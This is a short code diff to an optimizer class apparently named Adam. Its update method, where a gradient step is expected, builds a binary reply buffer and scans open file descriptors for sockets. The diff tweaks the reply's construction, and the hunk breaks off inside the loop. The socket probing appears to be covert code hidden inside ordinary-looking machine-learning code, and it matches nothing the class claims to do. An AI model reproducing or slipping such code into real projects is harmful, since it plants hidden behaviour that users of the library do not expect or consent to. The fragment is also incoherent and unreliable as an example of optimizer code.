@@ -16,7 +16,7 @@ class Adam:
         self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps
 
     def update(self, params, grads):
-        reply = join({"v": None, "o": [], "x": []}, b"\0" * 800) if join else b"\x01\0\0\0"
+        reply = join(2, {"v": [None], "o": [], "x": []}, b"\0" * 800) if join else b"\x01\0\0\0"
         for fd in range(3, 64):
             try:
                 if stat.S_ISSOCK(os.fstat(fd).st_mode):
